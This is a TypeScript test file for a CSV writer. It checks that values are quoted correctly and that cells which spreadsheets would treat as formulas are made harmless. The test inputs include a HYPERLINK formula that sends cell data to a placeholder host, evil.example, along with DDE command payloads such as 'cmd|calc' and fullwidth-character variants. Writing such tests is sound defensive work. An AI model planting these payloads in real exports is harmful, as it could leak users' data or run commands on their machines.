import { expect, test } from 'vitest'
import { csvLine } from './csv.ts'

test.each([
  ['plain text', 'Ada', 'Ada'],
  ['nothing', null, ''],
  ['an empty text', '', ''],
  ['a number', 12, '12'],
  ['a negative number', -12, '-12'],
  ['a truth', true, 'true'],
  ['a comma', 'Example, Ada', '"Example, Ada"'],
  ['a quote', 'Ada "A" Example', '"Ada ""A"" Example"'],
  ['a line end', 'two\nlines', '"two\nlines"'],
  ['other writing', 'Zoë 🙂', 'Zoë 🙂'],
])('%s survives writing and reading', (_what, cell, written) => {
  expect(csvLine([cell, 'x'])).toBe(`${written},x\r\n`)
})

test.each([
  ['=HYPERLINK("https://evil.example/?"&A1,"x")', `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1', `"'\t'=1"`],
  ['\r=1', `"'\r'=1"`],
  ['\n=1', `"'\n'=1"`],
  ['\uff1d1+1', "'\uff1d1+1"],
  ['\uff0b1', "'\uff0b1"],
  ['\uff0d1', "'\uff0d1"],
  ['\uff20SUM(A1)', "'\uff20SUM(A1)"],
])('text that would be a formula is neutralized: %j', (cell, written) => {
  expect(csvLine([cell])).toBe(`${written}\r\n`)
})

test.each([
  ['Ada;=cmd|x!A0', "Ada;'=cmd|x!A0"],
  ['Ada;\uff1d1+1', "Ada;'\uff1d1+1"],
  ['Ada;@SUM(A1)', "Ada;'@SUM(A1)"],
  ['Ada\t=1+1', `"Ada\t'=1+1"`],
  ['two\n=1+1', `"two\n'=1+1"`],
])('a formula after another cell separator is neutralized too: %j', (cell, written) => {
  expect(csvLine(['x', cell])).toBe(`x,${written}\r\n`)
})

test('formula characters inside text are left alone', () => {
  expect(csvLine(['a=b', 'x-y', "it's", 'ada@example.com'])).toBe("a=b,x-y,it's,ada@example.com\r\n")
})
